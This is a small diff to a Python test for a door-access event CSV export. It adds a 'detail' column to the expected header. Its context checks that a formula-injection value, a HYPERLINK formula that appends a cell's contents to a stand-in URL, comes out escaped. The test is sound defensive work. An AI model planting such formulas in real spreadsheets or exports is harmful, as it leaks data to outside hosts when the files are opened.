@@ -68,7 +68,7 @@ def test_csv_export_anchor_and_escaping(capsys, data: Path) -> None:
     rows = list(csv.reader(io.StringIO(out)))
     seq, mac = head_out.split()[1:3]
     assert rows[0][0].startswith(f"# kunci events export; anchor {seq} {mac}")
-    assert rows[1] == ["seq", "time", "type", "reason", "method", "user", "door", "actor", "score"]
+    assert rows[1] == ["seq", "time", "type", "reason", "method", "user", "door", "actor", "score", "detail"]
     assert ['\'=HYPERLINK("http://x?"&A1)'] == [r[3] for r in rows[2:] if "HYPERLINK" in r[3]]
     assert "Siti" not in out
 
